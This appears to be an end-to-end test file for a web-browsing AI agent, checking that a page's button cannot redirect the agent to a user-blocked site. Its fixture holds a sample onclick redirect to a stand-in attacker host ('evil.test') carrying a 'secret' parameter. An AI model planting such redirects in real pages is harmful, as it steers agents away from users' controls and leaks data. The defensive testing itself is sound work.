import { expect } from "vitest"
import { agentPage } from "#scripts/e2e/web-agent/AgentPage.ts"
import { withSites } from "#scripts/e2e/web-agent/siteLists.ts"

export default agentPage({
  rule: "a page cannot take the agent to a site that the user has blocked",
  html: `<button onclick="location.href = 'http://evil.test/?secret=1'">Go on</button>`,
  files: { "//evil.test/": "<title>Evil</title>" },
  run: async (agent) => {
    await withSites(agent, { block: ["evil.test"] }, async () => {
      const feedback = await agent.act({ _tag: "click", i: agent.id("button", "Go on") })
      expect(feedback).toMatchObject({
        success: false,
        errorMessage: { name: "BlockedUrl", message: expect.stringContaining("http://evil.test/?secret=1") },
        blocked: ["http://evil.test/?secret=1"],
        urlAfter: "http://app.test/"
      })
      expect(agent.site.requests.filter(({ address }) => address.startsWith("evil.test"))).toEqual([])
      const asked = await agent.act({ _tag: "navigate", url: "http://evil.test/" })
      expect(asked.errorMessage?.name).toBe("BlockedUrl")
    })
  }
})
